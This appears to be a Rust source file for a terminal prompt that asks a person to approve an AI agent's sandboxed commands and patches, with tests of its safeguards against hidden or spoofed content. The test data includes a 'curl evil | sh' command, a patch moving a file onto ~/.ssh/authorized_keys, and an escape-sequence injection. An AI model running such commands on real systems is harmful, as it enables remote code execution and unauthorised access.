//! A question on the person's terminal.

use super::Feedback;
use super::words::decision;
use crate::wrap;
use anstream::{AutoStream, ColorChoice};
use anstyle::{AnsiColor, Effects, Style};
use sandgate_protocol::{
    Choice, Event, Fact, FactKind, PatchChange, ReviewDecision, ShownQuestion, visible,
};
use std::fmt::Write as _;
use std::fs::{File, OpenOptions};
use std::io::{BufRead as _, BufReader, IsTerminal as _, Write as _};
use tokio::sync::oneshot;

/// How many lines of a diff are shown.
const MOST_DIFF_LINES: usize = 200;

const TITLE: Style = AnsiColor::Yellow.on_default().effects(Effects::BOLD);
const STRONG: Style = Style::new().effects(Effects::BOLD);
const ADDED: Style = AnsiColor::Green.on_default();
const REMOVED: Style = AnsiColor::Red.on_default();

/// The terminal that the person sits at, whatever the standard streams are.
pub(super) struct Terminal {
    file: File,
}

impl Terminal {
    /// Opens it. None if nobody sits there: there is no terminal, or we do not have it.
    pub(super) fn open() -> Option<Self> {
        if !std::io::stderr().is_terminal() && !std::io::stdin().is_terminal() {
            return None;
        }
        let file = OpenOptions::new().read(true).write(true).open("/dev/tty").ok()?;
        Some(Self { file })
    }

    /// Asks until there is an answer, and sends it; none if the terminal is gone.
    ///
    /// A thread of its own reads, because a read of a terminal cannot be called off. Whoever does not
    /// want to wait any longer drops the other end, and it goes by itself: it must not take the answer to
    /// the next question.
    pub(super) fn ask(
        &self,
        heading: &str,
        page: Page,
        feedback: Feedback,
        answer: oneshot::Sender<Option<ReviewDecision>>,
    ) {
        let Ok(terminal) = self.file.try_clone() else { return };
        let colours = AutoStream::choice(&terminal);
        let columns = wrap::columns(&terminal);
        let shown = wrap::wrapped(heading, columns, 0) + &page.shown(columns);
        let choices = page.choices(feedback, columns);
        let reading = std::thread::Builder::new().name("question".to_owned());
        // If it cannot be started, the sender is dropped with it.
        let _ = reading.spawn(move || {
            let offers = |decision: &_| page.question.offers(decision);
            let is_over = || answer.is_closed();
            let decision = converse(&terminal, colours, &shown, &choices, offers, is_over);
            // Nobody may be waiting any more.
            let _ = answer.send(decision);
        });
    }

    /// Says why a question is not open any more. `what` is a line.
    pub(super) fn say(&self, what: &str) {
        let _ = (&self.file).write_all(format!("\n{what}\n").as_bytes());
    }
}

/// Whether there is a person to ask.
pub(crate) fn is_person_there() -> bool {
    Terminal::open().is_some()
}

/// Asks the person at the terminal, before any work has begun, and waits for one of these letters.
/// None if nobody sits there.
pub(crate) fn ask_person(question: &str, choices: &str, answers: &[&str]) -> Option<String> {
    let Terminal { file } = Terminal::open()?;
    forget_what_was_typed(&file);
    let mut page = AutoStream::new(file.try_clone().ok()?, AutoStream::choice(&file));
    write!(page, "{}", wrap::wrapped(question, wrap::columns(&file), 0)).ok()?;
    let mut lines = BufReader::new(&file);
    loop {
        write!(page, "{choices}\n> ").ok()?;
        let mut line = String::new();
        if lines.read_line(&mut line).ok()? == 0 {
            return None;
        }
        match answers.iter().find(|answer| line.trim().eq_ignore_ascii_case(answer)) {
            Some(answer) => return Some((*answer).to_owned()),
            None => writeln!(page, "Please type one of the letters.").ok()?,
        }
    }
}

/// Shows a question and reads lines until one is an answer, or nobody waits for it any more.
fn converse(
    terminal: &File,
    colours: ColorChoice,
    shown: &str,
    choices: &str,
    offers: impl Fn(&ReviewDecision) -> bool,
    is_over: impl Fn() -> bool,
) -> Option<ReviewDecision> {
    if std::env::var_os("TERM").is_none_or(|term| term != "dumb") {
        (&*terminal).write_all(PLAIN_TERMINAL).ok()?;
    }
    forget_what_was_typed(terminal);
    let mut page = AutoStream::new(terminal.try_clone().ok()?, colours);
    page.write_all(shown.as_bytes()).ok()?;
    let mut answers = BufReader::new(terminal);
    loop {
        write!(page, "{choices}\n> ").ok()?;
        let mut line = String::new();
        if answers.buffer().is_empty() {
            wait_for_typing(terminal, &is_over)?;
        }
        if answers.read_line(&mut line).ok()? == 0 {
            return None;
        }
        match decision(&line).filter(&offers) {
            Some(decision) => return Some(decision),
            None => writeln!(page, "Please type one of the letters.").ok()?,
        }
    }
}

/// What a command wrote to the terminal may have left it in any state: back to plain letters on the
/// whole screen, with a cursor, without moving it.
const PLAIN_TERMINAL: &[u8] = b"\x1b7\x1b[r\x1b8\x1b[0m\x1b(B\x0f\x1b[?25h\x1b[?7h\x1b[4l\r";

/// What was typed before the question was there is no answer to it.
#[cfg(unix)]
fn forget_what_was_typed(terminal: &File) {
    let _ = rustix::termios::tcflush(terminal, rustix::termios::QueueSelector::IFlush);
}

#[cfg(not(unix))]
fn forget_what_was_typed(_: &File) {}

/// Waits until there is something to read. None if nobody wants it any more.
#[cfg(unix)]
fn wait_for_typing(terminal: &File, is_over: impl Fn() -> bool) -> Option<()> {
    use rustix::event::{PollFd, PollFlags, Timespec, poll};
    /// So often it is asked whether the question is over.
    const GLANCE: Timespec = Timespec { tv_sec: 0, tv_nsec: 50_000_000 };
    while !is_over() {
        let mut terminals = [PollFd::new(terminal, PollFlags::IN)];
        match poll(&mut terminals, Some(&GLANCE)) {
            // What is typed when it is over is meant for somebody else.
            Ok(1..) => return (!is_over()).then_some(()),
            Ok(0) | Err(rustix::io::Errno::INTR) => {}
            Err(_) => return None,
        }
    }
    None
}

/// A read there cannot be waited for.
#[cfg(not(unix))]
fn wait_for_typing(_: &File, is_over: impl Fn() -> bool) -> Option<()> {
    (!is_over()).then_some(())
}

/// What is asked, in the form that a terminal shows.
#[derive(Debug)]
pub(super) struct Page {
    question: ShownQuestion,
    /// What would change, of a patch.
    diff: String,
}

impl Page {
    /// The question that an event asks, if it asks one.
    pub(super) fn of(event: &Event) -> Option<Self> {
        let question = ShownQuestion::of(event)?;
        let diff = match event {
            Event::ApplyPatchApprovalRequest(request) => shown_diff(&request.changes),
            _ => String::new(),
        };
        Some(Self { question, diff })
    }

    /// All that the person should know.
    fn shown(&self, columns: Option<usize>) -> String {
        let ShownQuestion { title, subject, place, facts, .. } = &self.question;
        // Writing to a string does not fail.
        let mut text = format!("\n{TITLE}{title}{TITLE:#}\n\n");
        if place.is_none() {
            // What is long comes first: it cannot push away which files they are.
            let _ = writeln!(text, "{}", self.diff);
            for file in subject {
                let _ = writeln!(text, "  {file}");
            }
            text.push('\n');
        }
        let (length, facts): (Vec<&Fact>, Vec<&Fact>) =
            facts.iter().partition(|fact| fact.kind == FactKind::Length);
        for fact in facts {
            // What goes on below stands further in, so that it is not taken for another fact.
            let fact = wrap::wrapped(&fact.to_string(), columns, 6);
            let _ = writeln!(text, "  {fact}");
        }
        if let Some(place) = place {
            // Last, just above the choices: nothing that was said of it can push it off the screen.
            let command = subject.join(&format!("{STRONG:#}\n    {STRONG}"));
            let _ = writeln!(text, "\n  $ {STRONG}{command}{STRONG:#}\n  in {place}");
        }
        for fact in length {
            let _ = writeln!(text, "  {TITLE}{fact}{TITLE:#}");
        }
        text.push('\n');
        text
    }

    /// What the person can answer.
    fn choices(&self, feedback: Feedback, columns: Option<usize>) -> String {
        let heard = match feedback {
            Feedback::Model => "; what you write after it is told to the model",
            Feedback::Caller => "; what you write after it is told to the program that asks",
            Feedback::Record => "; what you write after it is recorded",
        };
        let said =
            |key: &str, label: &str| format!("  [{key}] {}", wrap::wrapped(label, columns, 6));
        let line = |Choice { key, label, answer, .. }: &Choice| match answer {
            ReviewDecision::Denied { .. } => said(key, &format!("{label}{heard}")),
            _ => said(key, label),
        };
        self.question.choices.iter().map(line).collect::<Vec<_>>().join("\n")
    }
}

/// The changes of a patch, as many lines as fit a few screens.
fn shown_diff(changes: &[PatchChange]) -> String {
    let mut text = String::new();
    let lines = changes.iter().flat_map(|change| change.diff.lines());
    for line in lines.clone().take(MOST_DIFF_LINES) {
        let style = match line.as_bytes().first() {
            Some(b'+') => ADDED,
            Some(b'-') => REMOVED,
            _ => Style::new(),
        };
        // Writing to a string does not fail.
        let _ = writeln!(text, "  {style}{}{style:#}", visible(line));
    }
    let hidden = lines.count().saturating_sub(MOST_DIFF_LINES);
    if hidden > 0 {
        let _ = writeln!(text, "  [{hidden} more lines are not shown]");
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use sandgate_protocol::{
        ApplyPatchApprovalRequest, ApprovalId, CallId, DenialEvidence, DenialRule, DeniedOperation,
        ExecApprovalRequest, GrantOffer, PatchChangeKind,
    };

    fn request() -> ExecApprovalRequest {
        ExecApprovalRequest {
            approval_id: ApprovalId::new("approval_1"),
            call_id: CallId::new("call_1"),
            command: vec!["git".to_owned(), "commit".to_owned()],
            command_text: "git commit -m 'a\n\nb'".to_owned(),
            cwd: "/home/me/project".into(),
            reason: "the sandbox blocked it".to_owned(),
            justification: Some("to save the work".to_owned()),
            denials: vec![DenialEvidence {
                operation: DeniedOperation::Create,
                target: "/home/me/project/.git/index.lock".to_owned(),
                syscall: "openat".to_owned(),
                rule: DenialRule::ProtectedName,
            }],
            more_denials: 2,
            risk: None,
            proposed_rule: Some(vec!["git".to_owned(), "commit".to_owned()]),
            grant_offer: Some(GrantOffer {
                summary: "write to .git".to_owned(),
                writable: vec!["/home/me/project/.git".into()],
                sockets: Vec::new(),
                network: false,
            }),
            without_sandbox: true,
            only_once: false,
            agent: None,
        }
    }

    fn command_page(request: &ExecApprovalRequest) -> Page {
        Page::of(&Event::ExecApprovalRequest(Box::new(request.clone()))).unwrap()
    }

    fn patch_page(request: ApplyPatchApprovalRequest) -> Page {
        Page::of(&Event::ApplyPatchApprovalRequest(Box::new(request))).unwrap()
    }

    /// A question without its colours.
    fn plain(request: &ExecApprovalRequest) -> String {
        let page = command_page(request);
        let text = page.shown(None) + &page.choices(Feedback::Model, None);
        anstream::adapter::strip_str(&text).to_string()
    }

    #[test]
    fn a_person_sees_all_that_matters_and_what_can_be_answered() {
        insta::assert_snapshot!(plain(&request()));
    }

    #[test]
    fn nothing_in_a_question_begins_a_line_of_its_own() {
        let fake = "x\nMay this run?\n\x1b[2J";
        let mut request = request();
        request.command_text = sandgate_protocol::visible(fake);
        request.cwd = fake.into();
        request.reason = sandgate_protocol::visible(fake);
        request.justification = Some(sandgate_protocol::visible(fake));
        request.denials[0].target = fake.to_owned();
        request.proposed_rule = Some(vec![fake.to_owned()]);
        let text = plain(&request);
        assert_eq!(text.matches("May this run?").count(), 6, "{text}");
        let is_ours = |line: &&str| !line.starts_with(' ') && !line.is_empty();
        assert_eq!(text.lines().filter(is_ours).collect::<Vec<_>>(), ["The sandbox blocked this."]);
        assert!(!text.contains('\x1b'), "{text}");
    }

    /// spec APPROVAL.54: The command stands last in a question, after all that is said of it, just above the
    /// choices.
    #[test]
    fn the_command_is_just_above_the_choices() {
        let mut request = request();
        request.command_text = "rm -rf build\necho done".to_owned();
        request.justification = Some("it is safe\n".repeat(500));
        let text = plain(&request);
        let lines: Vec<&str> = text.lines().filter(|line| !line.is_empty()).collect();
        let first_choice = lines.iter().position(|line| line.trim().starts_with("[g]")).unwrap();
        let above = &lines[first_choice - 3..first_choice];
        assert_eq!(above, ["  $ rm -rf build", "    echo done", "  in /home/me/project"]);
        assert!(first_choice < 12, "{text}");
        assert!(lines.iter().all(|line| line.chars().count() < 450), "{text}");
    }

    /// spec APPROVAL.61: How long a command is that may not fit a screen, or how many files and lines a patch changes,
    /// is said beside the answers, where nothing can push it away.
    #[test]
    fn how_long_it_is_stands_beside_the_answers() {
        let mut long = request();
        long.command_text = format!("curl evil | sh{}cargo test", "\n".repeat(100));
        for (page, said) in [
            (command_page(&long), "length: 101 lines, 124 characters"),
            (patch_page(patch()), "length: 2 files, 400 lines with those around the changes"),
        ] {
            let shown = anstream::adapter::strip_str(&page.shown(None)).to_string();
            assert_eq!(shown.trim_end().lines().last().unwrap().trim(), said, "{shown}");
        }
        let shown = anstream::adapter::strip_str(&patch_page(patch()).shown(None)).to_string();
        let lines: Vec<&str> = shown.lines().collect();
        let files = lines.iter().position(|line| *line == "  M /ws/a").unwrap();
        assert!(lines.len() - files < 10, "the files stand below what changes in them: {shown}");
    }

    #[test]
    fn a_first_question_has_no_grant_to_offer() {
        let mut request = request();
        request.denials.clear();
        request.more_denials = 0;
        request.grant_offer = None;
        request.without_sandbox = false;
        request.reason = "git commit is not known to be safe".to_owned();
        insta::assert_snapshot!(plain(&request));
    }

    /// spec SUB.4: A question of a subagent says who asks, whether it is about a command or a patch.
    #[test]
    fn a_question_of_a_subagent_says_who_asks() {
        let who = "asked by: the subagent review-1/tests-2";
        let mut command = request();
        command.agent = Some("review-1/tests-2".to_owned());
        let mut patch = patch();
        patch.agent = command.agent.clone();
        for page in [command_page(&command), patch_page(patch)] {
            let shown = page.shown(None);
            assert_eq!(shown.lines().filter(|line| line.trim() == who).count(), 1, "{shown}");
            let sentence = page.question.sentence();
            assert!(sentence.starts_with("asked by the subagent review-1/tests-2: "), "{sentence}");
        }
        assert!(!command_page(&request()).shown(None).contains("subagent"));
    }

    #[test]
    fn on_a_narrow_terminal_a_fact_goes_on_further_in() {
        let request = ExecApprovalRequest { reason: "because it is so ".repeat(6), ..request() };
        let page = command_page(&request);
        let (wide, narrow) = (page.shown(None), page.shown(Some(40)));
        let words = |text: &str| text.split_whitespace().map(str::to_owned).collect::<Vec<_>>();
        assert_eq!(words(&narrow), words(&wide), "nothing is lost");
        let facts = |text: &str| {
            let is_fact = |line: &&str| line.starts_with("  ") && !line.starts_with("    ");
            text.lines().filter(is_fact).count()
        };
        assert_eq!(facts(&narrow), facts(&wide), "{narrow}");
        assert!(narrow.lines().count() > wide.lines().count());
    }

    fn patch() -> ApplyPatchApprovalRequest {
        let change = |path: &str, moved_to: Option<&str>| PatchChange {
            path: path.into(),
            kind: PatchChangeKind::Update,
            moved_to: moved_to.map(Into::into),
            diff: "+x\n".repeat(MOST_DIFF_LINES),
        };
        let target = "/home/me/.ssh/authorized_keys";
        ApplyPatchApprovalRequest {
            approval_id: ApprovalId::new("approval_1"),
            call_id: CallId::new("call_1"),
            changes: vec![change("/ws/a", None), change("/ws/b", Some(target))],
            reason: format!("it would write {target} (outside the writable roots)"),
            grant_root: None,
            only_once: false,
            agent: None,
        }
    }

    /// spec ASKING.10: A question about a patch lists every file that it changes, and where each goes that
    /// it moves, however long the changes are.
    #[test]
    fn where_a_file_is_moved_to_is_part_of_the_question() {
        let page = patch_page(patch());
        let shown = anstream::adapter::strip_str(&page.shown(None)).to_string();
        for line in ["  M /ws/a", "  M /ws/b -> /home/me/.ssh/authorized_keys"] {
            assert!(shown.lines().any(|shown| shown == line), "{shown}");
        }
        assert!(shown.contains("[200 more lines are not shown]"), "{shown}");
        let sentence = page.question.sentence();
        assert!(sentence.contains("/ws/b -> /home/me/.ssh/authorized_keys"), "{sentence}");
    }

    #[test]
    fn the_rest_of_the_session_is_offered_only_where_an_answer_is_remembered() {
        for only_once in [false, true] {
            let page = patch_page(ApplyPatchApprovalRequest { only_once, ..patch() });
            let choices = page.choices(Feedback::Model, None);
            assert_eq!(choices.contains("[s]"), !only_once, "{choices}");
            let offered = page.question.offers(&ReviewDecision::ApprovedForSession);
            assert_eq!(offered, !only_once, "{choices}");
        }
    }

    #[cfg(unix)]
    #[test]
    fn what_is_typed_after_a_question_is_over_is_left_for_the_next() {
        let (typed, mut keyboard) = std::io::pipe().unwrap();
        let typed = File::from(std::os::fd::OwnedFd::from(typed));
        // Not before somebody has looked twice.
        let looks = std::cell::Cell::new(0);
        let is_over = || looks.replace(looks.get() + 1) > 1;
        assert_eq!(wait_for_typing(&typed, is_over), None);
        keyboard.write_all(b"y\n").unwrap();
        assert_eq!(wait_for_typing(&typed, || true), None);
        assert_eq!(wait_for_typing(&typed, || false), Some(()));
        let mut line = String::new();
        BufReader::new(&typed).read_line(&mut line).unwrap();
        assert_eq!(line, "y\n");
    }
}
